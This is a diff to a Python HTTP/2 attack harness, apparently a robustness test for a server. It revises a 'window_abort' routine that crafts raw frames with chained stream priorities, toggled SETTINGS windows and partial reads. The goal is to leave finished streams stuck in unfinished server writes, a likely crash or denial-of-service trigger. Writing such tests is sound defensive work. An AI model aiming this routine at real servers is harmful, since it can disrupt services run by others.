@@ -12,7 +12,7 @@ import time
 
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
     0, 1, 2, 3, 4, 6, 7, 8, 9)
-END_STREAM, END_HEADERS, ACK = 1, 4, 1
+END_STREAM, END_HEADERS, WITH_PRIORITY = 1, 4, 0x20
 INITIAL_WINDOW_SIZE = 4
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 WINDOW_MAX = 0x7fffffff
@@ -59,6 +59,8 @@ class Attacker:
         self.socket = socket.socket()
         if small:
             self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+            # Small segments, as on a network: loopback's make the server's buffer megabytes.
+            self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 1000)
         self.socket.settimeout(timeout_s)
         self.socket.connect((host.strip("[]"), int(port)))
         self.received = b""
@@ -104,6 +106,16 @@ class Attacker:
             self.dropped = not bytes_
         return self.received
 
+    def read_at_most(self, count):
+        while count > 0 and not self.dropped and select.select([self.socket], [], [], 0.2)[0]:
+            try:
+                bytes_ = self.socket.recv(min(count, 4096))
+            except OSError:
+                bytes_ = b""
+            self.received += bytes_
+            self.dropped = not bytes_
+            count -= len(bytes_)
+
     def wait_dropped(self, timeout_s=20):
         """Reads until the server ends the connection. False when it does not."""
         until = time.monotonic() + timeout_s
@@ -123,20 +135,28 @@ class Attacker:
         return found
 
 
-def window_abort(address, target, size, streams=100):
-    """WINDOW_UPDATE on streams that are finished but stuck in an unfinished write.
+def window_abort(address, target, size, streams=100, rounds=20):
+    """A window that opens for streams that are finished but stuck in an unfinished write.
 
-    `target` answers with `size` bytes, which is exactly the window of every stream.
+    `target` answers with `size` bytes, which is exactly the window of every stream and less than
+    one write of the server. Each stream depends on the one before it, so they are answered one
+    after another, and in each write some stream ends. In every round some bytes are read, which
+    leaves the server in another write, and the windows are opened by one byte and closed again.
     """
     attacker = Attacker(address, [(INITIAL_WINDOW_SIZE, size)], small=True)
-    attacker.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WINDOW_MAX - 65535)))
-    opened = [attacker.open(target) for _ in range(streams)]
-    # Wait until the server has written all it can: the first bytes are here, and none are read.
+    bytes_ = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WINDOW_MAX - 65535))
+    for stream in range(1, 2 * streams, 2):
+        priority = struct.pack(">IB", 0x80000000 | max(stream - 2, 0), 15)
+        bytes_ += frame(HEADERS, END_HEADERS | END_STREAM | WITH_PRIORITY, stream,
+                        priority + request_block(target))
+    attacker.send(bytes_)
     select.select([attacker.socket], [], [], 10)
-    time.sleep(1)
-    for stream in opened:
-        attacker.send(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)))
-    time.sleep(0.5)
+    for number in range(rounds):
+        time.sleep(0.05)  # until the server has written all that the kernel takes
+        attacker.send(b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, window))
+                               for window in (size + 1, size)))
+        time.sleep(0.05)
+        attacker.read_at_most(17000 + 5000 * number)
     attacker.read()
     return attacker
 
